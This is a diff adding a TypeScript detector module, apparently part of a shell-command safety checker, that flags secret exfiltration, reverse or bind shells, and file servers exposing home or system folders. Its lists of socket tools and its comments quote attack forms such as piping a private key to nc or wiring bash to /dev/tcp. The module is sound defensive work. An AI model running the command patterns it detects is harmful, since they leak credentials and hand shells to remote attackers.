@@ -1,0 +1,216 @@
+/**
+ * Exfiltration: a secret (a credential store from the read policy, a private key, the
+ * environment) flowing into something that sends bytes to another machine; shells served over the
+ * network; file servers that expose the home folder or `/`.
+ */
+import type { Rule } from '../verdict';
+import { protectedTarget, resolvePath } from '../paths';
+import type { CommandView, DetectorTable, HitSink } from './types';
+import { optionValues, splitOptions } from './types';
+import { ENV_DUMPERS, isSecretPath, secretInWord } from './secrets';
+
+export const exfiltrationRules: Rule[] = [
+  {
+    key: 'secret-exfiltration',
+    category: 'exfiltration',
+    description: 'Sends credentials, private keys or the environment to another machine',
+  },
+  {
+    key: 'remote-shell',
+    category: 'exfiltration',
+    description: 'Hands a shell to the network (reverse or bind shell)',
+  },
+  {
+    key: 'exposed-server',
+    category: 'exfiltration',
+    description: 'Serves the home folder or a system directory over the network',
+  },
+];
+
+const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'mksh', 'fish', 'ash', 'busybox', 'tcsh', 'csh']);
+/** Raw socket tools: whatever reaches their stdin goes to the peer. */
+const SOCKETS = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet', 'cryptcat', 'pwncat']);
+const CURL_DATA = [
+  'data',
+  'data-binary',
+  'data-urlencode',
+  'data-ascii',
+  'json',
+  'form',
+  'form-string',
+  'upload-file',
+];
+const REMOTE_OPERAND = /^(?:[\w.-]+@)?[\w.-]+:(?!\/\/)/;
+
+function isShell(v: CommandView): boolean {
+  return SHELLS.has(v.name) && !v.args.some((a) => /^-[a-z]*c/i.test(a));
+}
+
+/** Whether the last command of a stage's text is a shell reading its stdin (`… | sh -i 2>&1`). */
+function endsInShell(text: string): boolean {
+  const last = text.slice(Math.max(text.lastIndexOf('|'), text.lastIndexOf(';'), text.lastIndexOf('&&')) + 1);
+  const words = last
+    .trim()
+    .split(/\s+/)
+    .filter((w) => !/^\d?>&\d$/.test(w));
+  const name = (words[0] ?? '').slice((words[0] ?? '').lastIndexOf('/') + 1);
+  return SHELLS.has(name) && words.slice(1).every((w) => /^-[a-z]+$/i.test(w) && w.includes('i'));
+}
+
+/** Files a sender uploads, and whether it sends its stdin. */
+function uploads(v: CommandView): { files: string[]; stdin: boolean } | null {
+  const files: string[] = [];
+  switch (v.name) {
+    case 'curl': {
+      const values = [
+        ...optionValues(v.args, 'd', CURL_DATA),
+        ...optionValues(v.args, 'F', []),
+        ...optionValues(v.args, 'T', []),
+      ];
+      if (values.length === 0) return null;
+      let stdin = false;
+      for (const raw of values) {
+        const at = /(?:^|=)[@<]([^;]*)/.exec(raw);
+        const path = at?.[1] ?? (optionValues(v.args, 'T', ['upload-file']).includes(raw) ? raw : null);
+        if (path === '-' || path === '.') stdin = true;
+        else if (path) files.push(path);
+      }
+      return { files, stdin };
+    }
+    case 'wget': {
+      const f = optionValues(v.args, null, ['post-file', 'body-file']);
+      return f.length > 0 || optionValues(v.args, null, ['post-data', 'body-data']).length > 0
+        ? { files: f, stdin: false }
+        : null;
+    }
+    case 'http':
+    case 'https':
+    case 'xh':
+      return { files: v.args.flatMap((a) => /^(?:[^=@]*=)?@(.+)$/.exec(a)?.[1] ?? []), stdin: true };
+    case 'ssh':
+      return { files: [], stdin: splitOptions(v.args).operands.length > 1 };
+    case 'scp':
+    case 'sftp':
+    case 'rsync': {
+      const ops = splitOptions(v.args).operands;
+      const dest = ops[ops.length - 1] ?? '';
+      return REMOTE_OPERAND.test(dest) && !dest.startsWith('/')
+        ? { files: ops.slice(0, -1), stdin: false }
+        : null;
+    }
+    case 'openssl':
+      return v.args[0] === 's_client' ? { files: [], stdin: true } : null;
+  }
+  return SOCKETS.has(v.name) ? { files: [], stdin: true } : null;
+}
+
+/** A shell offered over a socket: `nc -e sh`, `ncat --exec`, `socat … EXEC:bash`. */
+function servesShell(v: CommandView): boolean {
+  if (v.name === 'socat') return v.args.some((a) => /^(?:exec|system):/i.test(a));
+  if (!SOCKETS.has(v.name)) return false;
+  return (
+    optionValues(v.args, 'e', ['exec', 'sh-exec', 'lua-exec']).length > 0 ||
+    optionValues(v.args, 'c', []).length > 0
+  );
+}
+
+function sender(cmd: CommandView, out: HitSink): void {
+  if (servesShell(cmd)) out.hit('remote-shell', `${cmd.name} ${cmd.args.join(' ')}`);
+  const up = uploads(cmd);
+  if (!up) return;
+  const secret = up.files.find((f) => isSecretPath(f)) ?? cmd.words.map(secretInWord).find((s) => s !== null);
+  if (secret) out.hit('secret-exfiltration', `${cmd.name} sends ${secret}`);
+}
+
+/** A command that puts a secret on its stdout, or null. */
+function secretOutput(v: CommandView): string | null {
+  if (v.name === 'printenv' && v.args.length === 0) return 'the environment';
+  if (
+    ENV_DUMPERS.has(v.name) &&
+    v.name !== 'printenv' &&
+    (v.args.length === 0 || /^-[px]$/.test(v.args[0] ?? ''))
+  )
+    return 'the environment';
+  return v.args.find((a) => isSecretPath(resolvePath(v.cwd, a))) ?? null;
+}
+
+/** A stage the walker could not name: bare `env` unwraps to nothing. */
+export interface FlowStage {
+  view: CommandView | null;
+  text: string;
+}
+
+/** Pipelines: a secret read upstream reaching a sender; a shell's output reaching a socket. */
+export function pipelineExfiltrationHits(
+  stages: readonly FlowStage[],
+  sinkFor: (i: number) => HitSink,
+): void {
+  let secret: string | null = null;
+  let shell = false;
+  stages.forEach((stage, i) => {
+    const v = stage.view;
+    // `ssh host CMD` unwraps to the remote command; its stdin still crosses the network.
+    const remote = v === null && /^\s*(?:\S*\/)?ssh\s/.test(stage.text);
+    const up = v ? uploads(v) : remote ? { files: [], stdin: true } : null;
+    if (remote && secret) sinkFor(i).hit('secret-exfiltration', `${secret} piped to ssh`);
+    if (v && up?.stdin && secret) sinkFor(i).hit('secret-exfiltration', `${secret} piped to ${v.name}`);
+    const to = remote ? 'ssh' : v && (SOCKETS.has(v.name) || v.name === 'ssh') ? v.name : null;
+    if (up && shell && to) sinkFor(i).hit('remote-shell', `a shell piped to ${to}`);
+    const own = v
+      ? secretOutput(v)
+      : /^\s*(?:\S*\/)?env(?:\s+-[0i]{1,3})?\s*$/.test(stage.text)
+        ? 'the environment'
+        : null;
+    secret ??= own;
+    // The parser hangs `a | sh -i 2>&1` on one redirected stage: read its last command from the text.
+    shell = v !== null ? isShell(v) : endsInShell(stage.text);
+  });
+}
+
+/** `nc host < ~/.ssh/id_rsa`, `bash -i >& /dev/tcp/…`, `cat key > /dev/tcp/…`. */
+export function redirectExfiltrationHits(
+  view: CommandView | null,
+  target: string,
+  reads: boolean,
+  out: HitSink,
+): void {
+  if (reads) {
+    if (view && uploads(view)?.stdin && isSecretPath(target))
+      out.hit('secret-exfiltration', `${view.name} sends ${target}`);
+    return;
+  }
+  if (!/^\/dev\/(?:tcp|udp)\//.test(target) || !view) return;
+  if (isShell(view)) out.hit('remote-shell', `${view.name} wired to ${target}`);
+  const secret = secretOutput(view);
+  if (secret) out.hit('secret-exfiltration', `${secret} sent to ${target}`);
+}
+
+const LOOPBACK = /^(?:127\.\d+\.\d+\.\d+|localhost|::1|\[::1\])(?::\d+)?$/;
+
+function exposedDir(cmd: CommandView, dir: string | undefined, bind: string | undefined, out: HitSink): void {
+  if (bind !== undefined && LOOPBACK.test(bind)) return;
+  const where = resolvePath(cmd.cwd, dir ?? '.');
+  const why = where === '.' ? null : (protectedTarget(where) ?? (isSecretPath(where) ? where : null));
+  if (why) out.hit('exposed-server', `${cmd.name} serves ${why}`);
+}
+
+/** `python -m http.server [--directory D] [--bind A]`: all interfaces by default. */
+function pythonServer(cmd: CommandView, out: HitSink): void {
+  const at = cmd.args.indexOf('-m');
+  if (at < 0 || cmd.args[at + 1] !== 'http.server') return;
+  const rest = cmd.args.slice(at + 2);
+  exposedDir(cmd, optionValues(rest, 'd', ['directory'])[0], optionValues(rest, 'b', ['bind'])[0], out);
+}
+
+/** `php -S addr -t docroot`. */
+function phpServer(cmd: CommandView, out: HitSink): void {
+  const addr = optionValues(cmd.args, 'S', [])[0];
+  if (addr === undefined) return;
+  exposedDir(cmd, optionValues(cmd.args, 't', [])[0], addr.replace(/:\d+$/, ''), out);
+}
+
+export const exfiltrationDetectors: DetectorTable = [
+  [['curl', 'wget', 'http', 'https', 'xh', 'ssh', 'scp', 'sftp', 'rsync', 'openssl', ...SOCKETS], sender],
+  [['python'], pythonServer],
+  [['php'], phpServer],
+];
